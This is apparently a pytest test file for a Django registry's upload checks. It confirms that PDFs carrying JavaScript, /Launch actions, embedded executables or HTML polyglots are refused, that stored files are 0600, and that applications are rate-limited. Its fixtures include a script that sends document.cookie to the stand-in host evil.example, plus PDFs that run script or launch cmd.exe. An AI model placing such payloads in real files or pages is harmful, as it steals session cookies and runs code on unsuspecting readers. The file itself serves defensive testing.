"""Uploads an administrator will open: only valid, inactive PDFs, stored 0600, a limited number of
applications per address (issue 16 finding 6)."""

from __future__ import annotations

import io
import stat
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from registry.applications.models import Application, ApplicationDocument
from tests.factories import valid_pdf
from tests.integration.test_applications import opening_form


@pytest.fixture(autouse=True)
def _own_upload_folder(settings, tmp_path):
    settings.REGISTRY_UPLOADS = tmp_path / "uploads"


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def blank() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def with_open_action(kind: str, **fields: str) -> bytes:
    writer = blank()
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in fields.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return written(writer)


def with_named_javascript() -> bytes:
    """A document-level script in the catalog's name tree (no action opens it: viewers run it anyway)."""
    writer = blank()
    script = writer._add_object(
        DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hello');")})
    )
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("hello"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    return written(writer)


def with_attachment() -> bytes:
    writer = blank()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")
    return written(writer)


def compressed_javascript() -> bytes:
    """The script inside a compressed object stream, where a byte search would not see it."""
    writer = blank()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    )
    writer.compress_identical_objects()
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


HTML = b"<html><body><script>fetch('//evil.example/?'+document.cookie)</script></body></html>"
REFUSED = {
    "open action JavaScript": (with_open_action("/JavaScript", JS="app.alert(1)"), "/JavaScript action"),
    "named JavaScript": (with_named_javascript(), "/JavaScript"),
    "launch action": (with_open_action("/Launch", F="cmd.exe"), "/Launch action"),
    "embedded file": (with_attachment(), "/EmbeddedFiles"),
    "compressed JavaScript": (compressed_javascript(), "/JavaScript action"),
    "HTML after the PDF": (valid_pdf() + HTML, "something before or after it"),
    "HTML inside the PDF": (valid_pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + HTML + b"\n", 1), "web page (HTML)"),
    "HTML before the PDF": (HTML + valid_pdf(), "not a PDF document"),
    "a header and nothing else": (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "not a valid PDF"),
    "truncated": (valid_pdf()[:200] + b"\n%%EOF\n", "not a valid PDF"),
}


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("passport.pdf", content, content_type="application/pdf")


@pytest.mark.parametrize("case", list(REFUSED))
def test_active_damaged_or_polyglot_pdfs_are_refused_and_never_stored(world, client, case):
    content, reason = REFUSED[case]
    page = client.post("/apply/account/", opening_form(passport=upload(content))).content.decode()
    assert "[1013]" in page and reason in page, page[page.find("errorlist") - 200 : page.find("errorlist") + 600]
    assert not Application.objects.exists() and not ApplicationDocument.objects.exists()
    folder = Path(settings.REGISTRY_UPLOADS)
    stored = [path.read_bytes() for path in folder.rglob("*") if path.is_file()] if folder.exists() else []
    # The refused document is never written; the three that passed are kept for the next attempt.
    assert content not in stored and len(stored) == 3


def test_the_refusal_is_in_japanese_for_a_japanese_applicant(world, client):
    client.cookies["django_language"] = "ja"
    page = client.post("/apply/account/", opening_form(passport=upload(with_open_action("/JavaScript", JS="x")))).content.decode()
    assert "スクリプト" in page


def test_a_plain_pdf_is_accepted_and_stored_for_the_registry_only(world, client):
    assert client.post("/apply/account/", opening_form()).status_code == 302
    documents = ApplicationDocument.objects.all()
    assert documents.count() == 4
    for document in documents:
        mode = (Path(settings.REGISTRY_UPLOADS) / document.stored_name).stat().st_mode
        assert stat.S_IMODE(mode) == 0o600
    assert stat.S_IMODE(Path(settings.REGISTRY_UPLOADS).stat().st_mode) == 0o700


def test_one_address_may_send_only_so_many_applications(world, client, settings):
    settings.REGISTRY_APPLICATION_RATE = "2/3600"
    for n in range(2):
        assert client.post("/apply/account/", opening_form(login_id=f"applicant-{n}")).status_code == 302
    refused = client.post("/apply/account/", opening_form(login_id="applicant-3"))
    assert refused.status_code == 429
    assert "[1021]" in refused.content.decode()
    assert Application.objects.count() == 2
    other = client.post("/apply/account/", opening_form(login_id="applicant-4"), REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 302  # the limit is per address


def test_a_request_larger_than_four_documents_is_refused_before_it_is_read(world, client, settings):
    settings.REGISTRY_UPLOAD_MAX_BYTES = 1000
    settings.REGISTRY_MAX_BODY_BYTES = 1000
    big = SimpleUploadedFile("passport.pdf", valid_pdf() + b"%" + b"0" * 6000 + b"\n%%EOF\n", content_type="application/pdf")
    refused = client.post("/apply/account/", opening_form(passport=big))
    assert refused.status_code == 429 and "[1022]" in refused.content.decode()
